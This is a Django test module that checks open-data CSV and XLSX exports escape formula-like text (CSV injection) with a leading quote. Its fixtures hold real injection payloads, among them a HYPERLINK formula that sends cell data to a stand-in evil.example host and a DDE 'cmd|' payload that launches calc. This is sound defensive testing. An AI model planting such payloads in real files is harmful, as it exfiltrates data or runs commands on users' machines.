"""A text a partner typed that a spreadsheet would run (=HYPERLINK(...), +, -, @, a tab, a
carriage return) leaves in the CSV and XLSX exports with a quote before it, as OWASP's
"CSV Injection" page says, and the XLSX cell is a text, never a formula; numbers stay
numbers; JSON and Parquet keep the text as it was typed."""

import csv
import dataclasses
import io
import json
import zipfile
from decimal import Decimal as D

import openpyxl
import pyarrow.parquet as pq
import pytest
from django.core.management import call_command
from django.db import connection
from django.urls import reverse

from pilotage.budgets.models import Flow
from pilotage.budgets.tests.factories import BudgetLineFactory
from pilotage.indicators.tests.factories import IndicatorFactory, ObservationFactory
from pilotage.opendata.exports import COLLECTIONS
from pilotage.opendata.formats import csv_chunks
from pilotage.strategies.models import Strategy
from pilotage.strategies.tests.factories import (
    ActionFactory,
    StrategyFactory,
    StrategyNodeFactory,
)

pytestmark = pytest.mark.django_db

# One title per start a spreadsheet takes for a formula.
TITLES = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "+": "+33 81 00 00 00",
    "-": "-1+2",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
PLAIN = "Former 200 enseignants au numérique"


@pytest.fixture
def actions(db):
    """A public action for each formula-like title, one with a plain title, and a
    published value of -5 (a number, not a text)."""
    node = StrategyNodeFactory(strategy=StrategyFactory(code="PUB"), code="A1")
    made = {}
    for index, (start, title) in enumerate([*TITLES.items(), ("plain", PLAIN)]):
        action = ActionFactory(code=f"ACT-{index}", title_fr=title)
        action.nodes.set([node])
        made[start] = action
    indicator = IndicatorFactory(code="IND-NEG", action=made["plain"])
    ObservationFactory(indicator=indicator, value=D("-5"))
    return made


def download(client, name: str, format: str) -> bytes:
    response = client.get(reverse("opendata:export", args=[name, format]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def exported(client, tmp_path, channel: str, name: str, format: str) -> bytes:
    """The file as the web serves it, or as `pilotage export` writes it."""
    if channel == "web":
        return download(client, name, format)
    path = tmp_path / f"{name}.{format}"
    call_command("export", format, name, "--output", str(path), "--no-progress")
    return path.read_bytes()


def csv_titles(content: bytes) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO(content.decode("utf-8"), newline=""))
    return {row["code"]: row["title"] for row in rows}


def xlsx_cells(content: bytes, column: str) -> dict:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    index = header.index(column)
    return {row[0].value: row[index] for row in sheet.iter_rows(min_row=2)}


def no_formula_in(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


@pytest.mark.parametrize("channel", ["web", "cli"])
@pytest.mark.parametrize("start", list(TITLES))
def test_a_formula_like_title_has_a_quote_before_it_in_the_csv(
    client, tmp_path, actions, channel, start
):
    titles = csv_titles(exported(client, tmp_path, channel, "actions", "csv"))

    assert titles[actions[start].code] == "'" + TITLES[start]


@pytest.mark.parametrize("channel", ["web", "cli"])
@pytest.mark.parametrize("start", list(TITLES))
def test_a_formula_like_title_is_a_quoted_text_cell_in_the_workbook(
    client, tmp_path, actions, channel, start
):
    content = exported(client, tmp_path, channel, "actions", "xlsx")

    cell = xlsx_cells(content, "title")[actions[start].code]
    # XML reads a CR back as a LF (its line ends are normalised): the quote is still first.
    assert (cell.value, cell.data_type) == ("'" + TITLES[start].replace("\r", "\n"), "s")
    assert no_formula_in(content)


@pytest.mark.parametrize("channel", ["web", "cli"])
def test_a_carriage_return_inside_a_text_starts_no_row_of_the_csv(
    client, tmp_path, actions, channel
):
    """A spreadsheet starts a row at a bare CR, and would run the "=" after it."""
    title = 'Voir\r=HYPERLINK("https://evil.example/","ici")'
    actions["plain"].title_fr = title
    actions["plain"].save()

    content = exported(client, tmp_path, channel, "actions", "csv")

    assert content.count(b"\n") == 1 + len(actions)
    assert b'"Voir\r=HYPERLINK(' in content
    assert csv_titles(content)[actions["plain"].code] == title


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_plain_title_is_left_as_it_is(client, actions, format):
    content = download(client, "actions", format)

    if format == "csv":
        assert csv_titles(content)[actions["plain"].code] == PLAIN
    else:
        cell = xlsx_cells(content, "title")[actions["plain"].code]
        assert (cell.value, cell.data_type) == (PLAIN, "s")


def test_a_negative_value_stays_a_number(client, actions):
    [row] = csv.DictReader(io.StringIO(download(client, "observations", "csv").decode()))
    assert D(row["value"]) == D(-5)  # "-5" (or -5.0000 as stored), never "'-5"

    cell = xlsx_cells(download(client, "observations", "xlsx"), "value")["IND-NEG"]
    assert (cell.value, cell.data_type) == (-5, "n")


def test_json_and_parquet_keep_the_title_as_typed(client, actions):
    """They are data, not spreadsheets: no reader of theirs runs a formula."""
    code = actions["="].code
    listed = json.loads(download(client, "actions", "json"))
    from_json = {row["code"]: row["title"] for row in listed}
    table = pq.read_table(io.BytesIO(download(client, "actions", "parquet"))).to_pylist()
    from_parquet = {row["code"]: row["title"] for row in table}

    assert from_json[code] == from_parquet[code] == TITLES["="]


def test_the_zip_of_every_csv_quotes_too(client, actions):
    response = client.get(reverse("opendata:zip"))
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        titles = csv_titles(archive.read("actions.csv"))

    assert titles[actions["@"].code] == "'" + TITLES["@"]


def test_a_workbook_text_is_a_text_whatever_openpyxl_would_take_it_for(client, actions):
    """ "#N/A" would be an error value, and a control character XML cannot hold, once
    removed, would uncover a "="."""
    actions["plain"].title_fr = "#N/A"
    actions["plain"].save()
    actions["="].title_fr = "\x01=1+1"
    actions["="].save()

    content = download(client, "actions", "xlsx")

    cells = xlsx_cells(content, "title")
    assert (cells[actions["plain"].code].value, cells[actions["plain"].code].data_type) == (
        "#N/A",
        "s",
    )
    assert (cells[actions["="].code].value, cells[actions["="].code].data_type) == ("'=1+1", "s")
    assert no_formula_in(content)


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@pytest.mark.parametrize("start", list(TITLES))
def test_on_postgresql_copy_quotes_the_same_texts(actions, start):
    """Codes cannot start like a formula when typed; the export does not count on it."""
    indicator = IndicatorFactory(code=f"{start}IND", action=actions["plain"])
    ObservationFactory(indicator=indicator, value=D("-5"))
    collection = COLLECTIONS["observations"]

    copied = b"".join(csv_chunks(collection))

    assert copied == b"".join(csv_chunks(dataclasses.replace(collection, copy_query=None)))
    rows = list(csv.DictReader(io.StringIO(copied.decode(), newline="")))
    assert {row["indicator"] for row in rows} == {"IND-NEG", f"'{start}IND"}
    assert [D(row["value"]) for row in rows] == [D(-5), D(-5)]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_budget_line_label_is_quoted_and_its_negative_amount_stays_a_number(
    client, actions, format
):
    """The budget page's downloads are these exports."""
    BudgetLineFactory(
        code="LINE-CORR",
        strategy=Strategy.objects.get(code="PUB"),
        label_fr="=SUM(A1:A9)",
        flow=Flow.COMMITTED,
        amount=D("-5"),
    )

    content = download(client, "budget-lines", format)

    if format == "csv":
        [row] = csv.DictReader(io.StringIO(content.decode(), newline=""))
        assert (row["label"], D(row["amount"])) == ("'=SUM(A1:A9)", D(-5))
    else:
        label, amount = xlsx_cells(content, "label"), xlsx_cells(content, "amount")
        assert (label["LINE-CORR"].value, label["LINE-CORR"].data_type) == ("'=SUM(A1:A9)", "s")
        assert (amount["LINE-CORR"].value, amount["LINE-CORR"].data_type) == (-5, "n")
